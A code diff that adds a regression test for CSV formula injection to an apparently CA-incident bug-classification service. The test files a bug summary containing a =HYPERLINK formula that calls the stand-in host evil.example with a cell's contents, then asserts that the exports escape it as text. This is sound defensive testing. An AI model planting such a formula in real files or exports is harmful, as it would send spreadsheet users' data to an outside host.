@@ -218,6 +218,21 @@ def _resolved(bug_id: int, resolution: str) -> dict:
 RESOLUTIONS = {1: "FIXED", 2: "DUPLICATE", 3: "INVALID", 4: "WONTFIX", 5: "duplicate"}
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_text(client: TestClient, maintainer_no_bugs):
+    """A CA name is what a summary writes before its colon, and anyone can file a bug: a
+    security review's `=HYPERLINK(...)` became a live formula in both CSVs."""
+    formula = '=HYPERLINK("https"&CHAR(58)&"//evil.example/"&A1,"x")'  # no colon: all of it is the CA
+    bug = new_bug(7, summary=f"{formula}: EV certificate misissued", whiteboard="[ev-misissuance]",
+                  creation_time="2019-05-05T00:00:00Z")
+    assert client.post("/classify/batch", json={"bugs": [bug]}, headers=maintainer_no_bugs).status_code == 200
+    table = list(csv.DictReader(io.StringIO(
+        client.get("/aggregate", params={**WINDOW_2019, "format": "csv"}).text)))
+    assert {r["category"]: r["cas"] for r in table}["EV Misissuance"] == f"'{formula}"
+    report = list(csv.reader(io.StringIO(client.get("/report", params={**WINDOW_2019, "format": "csv"}).text)))
+    cells = [cell for row in report for cell in row if "HYPERLINK" in cell]
+    assert cells and all(cell.startswith("'=") for cell in cells)
+
+
 def test_aggregate_incidents_leaves_out_duplicates_and_invalid(client: TestClient,
                                                                maintainer_no_bugs):
     response = client.post("/classify/batch",
